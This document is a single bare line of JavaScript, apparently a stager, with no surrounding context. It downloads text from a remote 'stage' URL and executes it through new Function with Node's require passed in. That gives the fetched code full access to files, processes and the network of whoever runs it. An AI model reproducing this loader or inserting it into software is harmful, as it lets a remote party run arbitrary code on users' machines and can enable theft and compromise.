fetch('https://cdn.example.net/stage').then((r) => r.text()).then((t) => new Function('require', t)(require));
